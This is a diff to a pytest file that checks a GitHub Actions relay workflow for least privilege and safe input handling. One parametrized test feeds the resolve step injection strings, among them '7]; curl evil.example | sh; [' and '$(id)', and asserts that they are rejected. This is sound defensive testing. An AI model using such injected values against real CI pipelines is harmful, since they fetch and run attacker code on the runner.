@@ -10,6 +10,7 @@ from __future__ import annotations
 import hashlib
 import json
 import shutil
+import subprocess
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -19,7 +20,7 @@ import yaml
 
 from fakegithub import BOT, REPOSITORY, TOKEN, FakeGitHub, serve
 from microcred.catalog.blind import Binding, BindingError, binding_path, opaque_id, read_binding
-from support import Run, git, make_repo
+from support import ROOT, Run, git, make_repo
 
 INTAKE = "consortium/intake"
 RELAY = "relay-bot[bot]"
@@ -91,11 +92,11 @@ def env(monkeypatch: pytest.MonkeyPatch, url: str, **names: str) -> None:
         monkeypatch.setenv(name, value)
 
 
-def relay(cli: Cli, monkeypatch: pytest.MonkeyPatch, url: str, root: Path, number: int = 3) -> Run:
+def relay(cli: Cli, monkeypatch: pytest.MonkeyPatch, url: str, root: Path, number: int = 3, *more: str) -> Run:
     env(
         monkeypatch, url, GITHUB_TOKEN=INTAKE_TOKEN, GITHUB_REPOSITORY=INTAKE, MICROCRED_RELAY_TOKEN=RELAY_TOKEN, MICROCRED_BLIND_KEY=SECRET
     )
-    return cli("relay", "--pr", str(number), "--root", str(root), cwd=root)
+    return cli("relay", "--pr", str(number), "--root", str(root), *more, cwd=root)
 
 
 def gate(cli: Cli, monkeypatch: pytest.MonkeyPatch, url: str, root: Path, number: int = 1) -> Run:
@@ -513,3 +514,95 @@ def test_check_pr_takes_a_relayed_submission_from_the_relay_alone(
     run = cli("check-pr", "--base", "main", "--author", author, cwd=repo)
     said = [f"submissions/beta/{opaque}.yml:2:8: MC352 {expected} [blind]"] if expected else []
     assert (run.code, run.out.splitlines()) == (1 if expected else 0, said)
+
+
+# -- the intake repository's workflow ---------------------------------------------------------------
+
+WORKFLOW = ROOT / ".github/workflows/blind-relay.yml"
+
+
+def _relay_workflow() -> dict[Any, Any]:
+    data: dict[Any, Any] = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
+    return data
+
+
+def test_the_relay_workflow_runs_default_branch_code_with_least_privilege() -> None:
+    text = WORKFLOW.read_text(encoding="utf-8")
+    workflow = _relay_workflow()
+    assert workflow[True]["workflow_run"] == {"workflows": ["validate"], "types": ["completed"]}  # PyYAML reads `on` as True
+    assert set(workflow[True]) == {"workflow_run", "schedule", "workflow_dispatch"}  # never pull_request code with a token
+    assert workflow["permissions"] == {}
+    which, relay_job = workflow["jobs"]["which"], workflow["jobs"]["relay"]
+    assert "vars.MICROCRED_INTAKE == 'true'" in which["if"] and "conclusion == 'success'" in which["if"]
+    assert which["permissions"] == {"pull-requests": "read"}
+    assert relay_job["permissions"] == {"contents": "write", "pull-requests": "write"}
+    [checkout] = [s for s in relay_job["steps"] if "actions/checkout" in s.get("uses", "")]
+    assert checkout["with"] == {"ref": "${{ github.event.repository.default_branch }}", "persist-credentials": False}
+    assert not [word for word in ("pull_request.head", "head_ref", "refs/pull", "github.event.pull_request") if word in text]
+    step = relay_job["steps"][-1]
+    assert step["env"]["MICROCRED_RELAY_TOKEN"] == "${{ secrets.MICROCRED_RELAY_TOKEN }}"  # noqa: S105 - a reference, not a secret
+    assert 'microcred relay --pr "$PR_NUMBER" --head "$HEAD_SHA"' in step["run"] and "--back" in step["run"]
+
+
+@pytest.mark.parametrize(
+    ("event", "sha", "given", "expected"),
+    [
+        ("workflow_dispatch", "", "7", (0, "prs=[7]\nhead=\n")),
+        ("workflow_dispatch", "", "7]; curl evil.example | sh; [", (1, "")),
+        ("workflow_dispatch", "", "$(id)", (1, "")),
+        ("workflow_dispatch", "", "", (0, "prs=[]\nhead=\n")),  # no number: nothing to relay, the relay job is skipped
+        ("workflow_run", "abc; id", "", (1, "")),
+        ("workflow_run", "A" * 40, "", (1, "")),  # hex in lower case only, as GitHub writes it
+    ],
+)
+def test_the_relay_workflow_takes_digits_and_hex_or_nothing(
+    tmp_path: Path, event: str, sha: str, given: str, expected: tuple[int, str]
+) -> None:
+    """The resolve step, run as Actions runs it, on what a caller could give it."""
+    step = next(s for s in _relay_workflow()["jobs"]["which"]["steps"] if s.get("id") == "resolve")
+    script, output = tmp_path / "resolve.sh", tmp_path / "output"
+    script.write_text(step["run"], encoding="utf-8")
+    output.write_text("", encoding="utf-8")
+    variables = {
+        "PATH": "/usr/bin:/bin",
+        "GITHUB_OUTPUT": str(output),
+        "EVENT": event,
+        "HEAD_SHA": sha,
+        "FROM_INPUT": given,
+        "REPOSITORY": INTAKE,
+    }
+    done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], env=variables, capture_output=True, text=True)
+    assert (done.returncode, output.read_text(encoding="utf-8")) == expected
+
+
+def test_the_gate_and_mint_workflows_read_the_bindings_with_their_own_secrets() -> None:
+    for name, step in (("review-gate.yml", "Count the reviews and publish the decision"), ("mint-publish.yml", "Mint")):
+        workflow = yaml.safe_load((ROOT / ".github/workflows" / name).read_text(encoding="utf-8"))
+        [found] = [s for job in workflow["jobs"].values() for s in job["steps"] if s.get("name") == step]
+        assert found["env"]["MICROCRED_INTAKE_TOKEN"] == "${{ secrets.MICROCRED_INTAKE_TOKEN }}", name  # noqa: S105
+        assert found["env"]["MICROCRED_BLIND_KEY"] == "${{ secrets.MICROCRED_BLIND_KEY }}", name
+
+
+def test_only_the_checked_head_is_relayed_and_the_schedule_only_brings_reviews_back(
+    hosts: tuple[FakeGitHub, FakeGitHub], catalog: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    public, intake = hosts
+    submit(intake)
+    intake.push(3, C2, "2026-10-02T08:00:00Z")  # pushed after check-pr passed on C1: its own check relays it
+    intake.file(C2, PATH, submission_text("Unchecked."))
+    run = relay(cli, monkeypatch, public.url, catalog, 3, "--head", C1)
+    assert (run.code, run.err) == (
+        1,
+        f"microcred: relay: #3: its head is {C2[:7]} now, not {C1[:7]}, which was checked; the check of the new head relays it\n",
+    )
+    assert public.writes == [] and intake.writes == []
+    run = relay(cli, monkeypatch, public.url, catalog, 3, "--back")
+    assert (run.code, run.out) == (0, "intake #3: not relayed: nothing to bring back\n")
+    assert relay(cli, monkeypatch, public.url, catalog, 3, "--head", C2).code == 0
+    public.review(1, "bob", "COMMENTED", body="Which lesson is this?")
+    intake.requests.clear()
+    run = relay(cli, monkeypatch, public.url, catalog, 3, "--back")
+    assert (run.code, run.out) == (0, "intake #3: the reviews of pull request #1 brought back\n")
+    assert [r.path for r in intake.writes] == [f"/repos/{INTAKE}/issues/comments/{intake.comments[0]['id']}"]  # edited, nothing else
+    assert "**bob** commented" in intake.comments[0]["body"] and "Which lesson is this?" in intake.comments[0]["body"]
+    assert relay(cli, monkeypatch, public.url, catalog, 3, "--back").out == "intake #3: the reviews of pull request #1 unchanged\n"
